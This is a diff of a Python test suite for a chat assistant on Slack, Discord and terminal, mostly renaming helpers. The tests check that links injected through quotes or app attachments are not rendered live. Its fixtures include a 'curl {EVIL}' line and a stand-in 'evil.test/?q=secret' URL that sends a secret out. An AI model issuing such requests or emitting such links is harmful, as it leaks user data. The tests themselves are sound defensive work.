@@ -19,7 +19,7 @@ from tests.dialogues.stage import Stage, Theatre
 from tests.dialogues.whole import whole
 from tests.discord.house import House
 from tests.fakes import linkers
-from tests.fakes.choices import ANA, always, choices, message
+from tests.fakes.choices import ANA, make_choices, make_message, supplier
 from tests.fakes.discord import FakeDiscord
 from tests.fakes.models import EchoModel
 from tests.fakes.openai import FakeOpenAI
@@ -49,7 +49,7 @@ echo Now
 curl {EVIL}
 ```"""
 OURS = "https://example.com/x"
-HOSTS = Profile(link_hosts=always(("example.com",)), links_code=frozenset({"terminal"}))
+HOSTS = Profile(link_hosts=supplier(("example.com",)), links_code=frozenset({"terminal"}))
 BO = Person("web", "bo", name="Bo")
 CSV = ("orders.csv", "text/csv", b"id,paid\n1,no\n")
 
@@ -107,15 +107,17 @@ async def looked(stage: Stage) -> None:
 
 async def with_a_file(stage: Stage) -> None:
     engine = stage.engine
-    one = message("what is this?", "file", "C1")
-    kept = await engine.files.put(
+    one = make_message("what is this?", "file", "C1")
+    kept = await engine.records.files.put(
         "file", "a.csv", "text/csv", b"a,b", ANA, one.address.conversation
     )
     await stage.asks(replace(one, attachments=(Attachment("a.csv", "text/csv", 3, kept.id),)))
 
 
 async def with_a_quote(stage: Stage) -> None:
-    await stage.asks(replace(message("and this?", "quote"), context=(Quote("Bo", "look here"),)))
+    await stage.asks(
+        replace(make_message("and this?", "quote"), context=(Quote("Bo", "look here"),))
+    )
 
 
 async def of_somebody_else(stage: Stage) -> None:
@@ -159,7 +161,7 @@ async def test_links_of_a_talk_without_anything_from_outside_stay(theatre: Theat
         assert (await stage.said("tell me")).text == TEXT
         assert (await stage.said("tell me more")).text == TEXT
         told = Quote("Slack", "The person is looking at the channel C1.", ours=True)
-        answer = await stage.asks(replace(message("this", "ours"), context=(told,)))
+        answer = await stage.asks(replace(make_message("this", "ours"), context=(told,)))
         assert answer.text == TEXT
 
 
@@ -188,19 +190,19 @@ async def test_what_the_asker_wrote_whole_stays_a_link(theatre: Theatre) -> None
 async def test_words_of_others_are_not_what_the_asker_wrote(theatre: Theatre) -> None:
     async with theatre.open(Author(f"see {EVIL}")) as stage:
         quoted = (Quote("Bo", f"ask for {EVIL}"),)
-        answer = await stage.asks(replace(message("do it", "quote"), context=quoted))
+        answer = await stage.asks(replace(make_message("do it", "quote"), context=quoted))
         assert answer.text == f"see `{EVIL}`"
 
 
 async def test_a_terminal_knows_no_code(theatre: Theatre, tmp_path: Path) -> None:
-    one = message("go", "t1")
+    one = make_message("go", "t1")
     address = replace(one.address, platform="terminal")
     at_terminal = replace(
         one, author=Person("terminal", "owner"), address=address,
         reply_to=replace(one.reply_to, address=address), context=(Quote("Bo", "look"),),
     )  # fmt: skip
     async with theatre.open(Author(), profile=HOSTS) as stage:
-        stage.engine.replies["terminal"] = stage.engine.replies["web"]
+        stage.engine.platforms.replies["terminal"] = stage.engine.platforms.replies["web"]
         answer = await stage.asks(at_terminal)
     assert live(linkers.terminal(answer.text)) == []
     assert "https[:]//evil[.]test/?q=secret" in answer.text
@@ -227,40 +229,44 @@ def quick(monkeypatch: pytest.MonkeyPatch) -> None:
 @pytest.mark.parametrize("where", ["dm", "general"])
 async def test_slack_links_nothing_else_streamed_or_posted(tmp_path: Path, where: str) -> None:
     model = Speaker(*pieces())
-    setting = Setting(model, chosen=replace(choices(model), profile=HOSTS))
+    setting = Setting(model, chosen=replace(make_choices(model), profile=HOSTS))
     async with workplace(tmp_path, setting) as w:
         place = getattr(w, where)
         call = "" if where == "dm" else f"{w.slack.bot} "
         root = w.slack.say(w.alice, place, f"{call}what is this?", files=[CSV])
         model.go(20)
-        await w.slack.until(lambda: w.slack.workspace.by_bot(place.id))
+        await w.slack.wait_until(lambda: w.slack.workspace.by_bot(place.id))
         model.finish()
-        await w.slack.answer(root)
-        await w.slack.until(lambda: OURS in w.slack.workspace.by_bot(place.id)[-1].shown)
+        await w.slack.wait_for_answer(root)
+        await w.slack.wait_until(
+            lambda: OURS in w.slack.workspace.by_bot(place.id)[-1].visible_text
+        )
         again = Speaker(*pieces())
-        await w.restart(Setting(again, chosen=replace(choices(again), profile=HOSTS)))
+        await w.restart(Setting(again, chosen=replace(make_choices(again), profile=HOSTS)))
         thread = None if where == "dm" else root
         w.slack.say(w.alice, place, f"{call}go on", thread=thread)
-        await w.slack.until(lambda: again.asks)
+        await w.slack.wait_until(lambda: again.asks)
         again.go(20)
-        await w.slack.until(lambda: len(w.slack.workspace.by_bot(place.id)) > 1)
+        await w.slack.wait_until(lambda: len(w.slack.workspace.by_bot(place.id)) > 1)
         again.finish()
-        await w.slack.until(lambda: OURS in w.slack.workspace.by_bot(place.id)[-1].shown)
+        await w.slack.wait_until(
+            lambda: OURS in w.slack.workspace.by_bot(place.id)[-1].visible_text
+        )
         posts = w.slack.workspace.by_bot(place.id)
         assert any(post.streamed for post in posts) is (where == "dm")
         assert linked(posts) == []
-        assert all("evil" in post.shown for post in posts)
+        assert all("evil" in post.visible_text for post in posts)
 
 
 async def test_slack_what_others_said_in_the_thread(tmp_path: Path) -> None:
     model = Author()
     async with workplace(
-        tmp_path, Setting(model, chosen=replace(choices(model), profile=HOSTS))
+        tmp_path, Setting(model, chosen=replace(make_choices(model), profile=HOSTS))
     ) as w:
         root = w.slack.say(w.bob, w.general, "Please look at this.")
         said = w.slack.say(w.alice, w.general, f"{w.slack.bot} what now?", thread=root)
-        answer = await w.slack.answer(said)
-        assert OURS in answer.shown
+        answer = await w.slack.wait_for_answer(said)
+        assert OURS in answer.visible_text
         assert linked([answer]) == []
 
 
@@ -269,8 +275,8 @@ async def test_slack_what_an_app_hangs_on_a_message_is_not_its_authors(tmp_path:
     async with workplace(tmp_path, Setting(model)) as w:
         hung = [{"title": "Build", "text": f"open {EVIL}", "app_id": "A1"}]
         said = w.slack.say(w.alice, w.dm, "what is this?", attachments=hung)
-        answer = await w.slack.answer(said)
-        assert f"`{EVIL}`" in answer.shown
+        answer = await w.slack.wait_for_answer(said)
+        assert f"`{EVIL}`" in answer.visible_text
         assert linked([answer]) == []
 
 
@@ -281,15 +287,15 @@ async def test_discord_links_nothing_else(tmp_path: Path, discord: FakeDiscord) 
     house = House(discord, tmp_path)
     ana = discord.user("Ana")
     house.model.script = dict.fromkeys(("look", "go on"), pieces())
-    house.choices = replace(choices(house.model, policy=house.policy), profile=HOSTS)
+    house.choices = replace(make_choices(house.model, policy=house.policy), profile=HOSTS)
     try:
         await house.open()
         await ana.say("look", files=[("orders.csv", b"a,b\n")])
-        await ana.reads("example.com/x")
+        await ana.wait_for_text("example.com/x")
         await house.close()
         await house.open()
         await ana.say("go on")
-        await discord.until(
+        await discord.wait_until(
             lambda: sum("example.com/x" in m["content"] for m in ana.dm.messages.values()) == 2
         )
     finally:
